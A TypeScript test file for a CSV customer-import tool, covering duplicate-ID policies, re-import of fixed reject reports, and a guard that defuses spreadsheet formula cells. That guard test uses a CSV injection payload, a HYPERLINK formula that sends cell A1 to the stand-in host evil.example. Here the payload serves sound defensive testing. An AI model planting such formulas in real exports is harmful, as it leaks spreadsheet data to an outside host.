/**
 * Issue 2 through `main` in-process: `--on-duplicate` policies, the spreadsheet formula guard in report files, and the
 * round trip the README promises: fix the rows in rejects.csv and import that file as it is.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Sandbox } from '../../src/sandbox/start-sandbox.js';
import { expectExit, fixture, useWorkspaces } from './helpers/run-main.js';
import { readReportCsv, readSummary } from '../helpers/report-reader.js';
import { targetEnv, useSandboxes } from '../helpers/sandboxes.js';

const workspace = useWorkspaces();
const sandboxFor = useSandboxes();
const FAST = ['--rate', '60000'];

const stored = (sandbox: Sandbox, userId: string) => sandbox.customers().find((customer) => customer.userId === userId);

describe('--on-duplicate (duplicate-user-id.csv: u9001 on lines 2 and 4)', () => {
  it.each([
    { policy: 'first', valid: 3, lines: [['4', '2']], email: 'paul.smith@newco.example.com' },
    { policy: 'last', valid: 3, lines: [['2', '4']], email: 'paul.smith@example.com' },
    {
      policy: 'reject',
      valid: 2,
      lines: [
        ['2', ''],
        ['4', ''],
      ],
      email: 'paul.smith@example.com',
    },
  ])('$policy: duplicates.csv holds the right lines with _kept_line', async ({ policy, valid, lines, email }) => {
    const { dir, run } = await workspace();
    const result = await run([fixture('duplicate-user-id.csv'), '--dry-run', '--on-duplicate', policy, '--report-dir', 'r']);
    expectExit(result, 4);
    const duplicates = lines.length;
    expect(result.stdout).toContain(`rows 4: ${valid} valid, 0 rejected, ${duplicates} duplicates`);
    const report = await readReportCsv(join(dir, 'r'), 'duplicates.csv');
    expect(report.header).toEqual(['user_id', 'name', 'email', 'phone', 'company', '_line', '_kept_line']);
    expect(report.rows.map((row) => [row._line, row._kept_line])).toEqual(lines);
    expect(report.rows.every((row) => row.user_id === 'u9001')).toBe(true);
    expect(report.rows[0]?.email).toBe(email);
    const summary = await readSummary(join(dir, 'r'));
    expect(summary.counts).toMatchObject({ rows: 4, valid, rejected: 0, duplicates });
    expect(summary.options).toMatchObject({ onDuplicate: policy });
    expect((await readReportCsv(join(dir, 'r'), 'rejects.csv')).rows).toEqual([]);
  });

  it.each([
    { policy: 'first', line: '2', email: 'paul.smith@example.com', company: 'Smith & Co' },
    { policy: 'last', line: '4', email: 'paul.smith@newco.example.com', company: 'NewCo' },
  ])('$policy, applied: HelpCrunch gets the kept row, results.csv its line', async ({ policy, line, email, company }) => {
    const { dir, run } = await workspace();
    const sandbox = await sandboxFor();
    const result = await run([fixture('duplicate-user-id.csv'), '--on-duplicate', policy, '--report-dir', 'r', ...FAST], {
      env: targetEnv(sandbox),
    });
    expectExit(result, 4);
    expect(sandbox.customers()).toHaveLength(3);
    expect(stored(sandbox, 'u9001')).toMatchObject({ email, company });
    const results = await readReportCsv(join(dir, 'r'), 'results.csv');
    expect(results.rows.filter((row) => row.user_id === 'u9001').map((row) => row._line)).toEqual([line]);
    expect((await readSummary(join(dir, 'r'))).counts).toMatchObject({ valid: 3, duplicates: 1, created: 3 });
  });
});

describe('formula cells', () => {
  it("report cells a spreadsheet would run get a ' prefix; the fixed rejects.csv imports as is, without the '", async () => {
    const { dir, run } = await workspace();
    // Line 3 carries raw formulas; break its email so it lands in rejects.csv.
    const source = await readFile(fixture('formula-cells.csv'), 'utf8');
    await writeFile(join(dir, 'in.csv'), source.replace('tim.ray@example.com', 'tim.ray@'));
    const first = await run(['in.csv', '--dry-run', '--report-dir', 'first']);
    expectExit(first, 4);
    const rejects = await readReportCsv(join(dir, 'first'), 'rejects.csv');
    expect(rejects.rows).toEqual([
      expect.objectContaining({
        user_id: 'u1102',
        name: `'=HYPERLINK("http://evil.example/?x="&A1)`,
        email: 'tim.ray@',
        phone: "'+44 20 7946 0002",
        company: "'@SUM(1+1)",
        _line: '3',
        _reason_code: 'invalid_email',
      }),
    ]);
    // No cell of the report file starts with a formula character.
    expect(rejects.text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);

    await writeFile(join(dir, 'fixed.csv'), rejects.text.replace('tim.ray@,', 'tim.ray@example.com,'));
    const sandbox = await sandboxFor();
    const again = await run(['fixed.csv', '--report-dir', 'again', ...FAST], { env: targetEnv(sandbox) });
    expectExit(again, 0);
    expect(again.stderr).not.toContain('Columns not imported');
    const summary = await readSummary(join(dir, 'again'));
    expect(summary.counts).toMatchObject({ rows: 1, valid: 1, rejected: 0, created: 1 });
    expect(summary.input.unmappedHeaders).toEqual([]);
    expect(stored(sandbox, 'u1102')).toMatchObject({
      name: '=HYPERLINK("http://evil.example/?x="&A1)',
      email: 'tim.ray@example.com',
      phone: '+44 20 7946 0002',
      company: '@SUM(1+1)',
    });
  });

  it("a header the report guarded ('@handle) reads back as the header it was: the fixed file maps alike", async () => {
    const { dir, run } = await workspace();
    await writeFile(join(dir, 'in.csv'), 'user_id,name,email,@handle,-rank\nu1,Ann,broken@,ann_h,3\n');
    const custom = ['--custom', '@handle=handle', '--custom-rest'];
    expectExit(await run(['in.csv', '--dry-run', '--report-dir', 'first', ...custom]), 4);
    const rejects = await readReportCsv(join(dir, 'first'), 'rejects.csv');
    expect(rejects.header.slice(3, 5)).toEqual(["'@handle", "'-rank"]);

    await writeFile(join(dir, 'fixed.csv'), rejects.text.replace('broken@,', 'ann@example.com,'));
    const sandbox = await sandboxFor();
    const again = await run(['fixed.csv', '--report-dir', 'again', ...custom, ...FAST], { env: targetEnv(sandbox) });
    expectExit(again, 0);
    expect(stored(sandbox, 'u1')).toMatchObject({ customData: { handle: 'ann_h', '-rank': '3' } });
  });

  it("the fixture is no report of ours: every ' in it is data, kept as written", async () => {
    const { dir, run } = await workspace();
    const sandbox = await sandboxFor();
    const result = await run([fixture('formula-cells.csv'), '--report-dir', 'r', ...FAST], { env: targetEnv(sandbox) });
    expectExit(result, 0);
    expect((await readSummary(join(dir, 'r'))).counts).toMatchObject({ rows: 4, valid: 4, created: 4 });
    expect(stored(sandbox, 'u1101')).toMatchObject({ phone: "'+44 20 7946 0001", company: "'=Cole & Partners" });
    expect(stored(sandbox, 'u1103')).toMatchObject({ name: "'-Una Quill", phone: "'-", company: "'@quill" });
    expect(stored(sandbox, 'u1104')).toMatchObject({ name: "Vic O'Neil", email: "'vic@example.com", phone: "'0800 123", company: "'x'" });
  });
});

describe('report columns (a fixed rejects.csv imported again)', () => {
  it('the `_` columns are ignored, never listed as unmapped, never repeated in the new report', async () => {
    const { dir, run } = await workspace();
    const source = await readFile(fixture('report-columns.csv'), 'utf8');
    await writeFile(join(dir, 'in.csv'), source.replace('yusuf.ozturk@example.com', 'yusuf.ozturk@'));
    const result = await run(['in.csv', '--dry-run', '--report-dir', 'r']);
    expectExit(result, 4);
    expect(result.stderr).not.toContain('Columns not imported');
    const summary = await readSummary(join(dir, 'r'));
    expect(summary.input.headers).toEqual(['user_id', 'name', 'email', 'phone', 'company', '_line', '_reason_code', '_reason', '_extra']);
    expect(summary.input.mapping).toEqual({ user_id: 'user_id', name: 'name', email: 'email', phone: 'phone', company: 'company' });
    expect(summary.input.unmappedHeaders).toEqual([]);
    expect(summary.counts).toMatchObject({ rows: 2, valid: 1, rejected: 1 });
    const rejects = await readReportCsv(join(dir, 'r'), 'rejects.csv');
    expect(rejects.header).toEqual(['user_id', 'name', 'email', 'phone', 'company', '_line', '_reason_code', '_reason', '_extra']);
    // This run's line and reason, not the stale ones the input carried (9, missing_name); the guard is restored.
    expect(rejects.rows).toEqual([
      expect.objectContaining({ user_id: 'u1202', company: "'=Ozturk Ltd", _line: '3', _reason_code: 'invalid_email', _extra: '' }),
    ]);
  });

  it('the fixture as is: every row valid, exit 0', async () => {
    const { dir, run } = await workspace();
    const result = await run([fixture('report-columns.csv'), '--dry-run', '--report-dir', 'r']);
    expectExit(result, 0);
    expect(result.stdout).toContain('rows 2: 2 valid, 0 rejected, 0 duplicates');
    expect((await readSummary(join(dir, 'r'))).exitCode).toBe(0);
  });
});
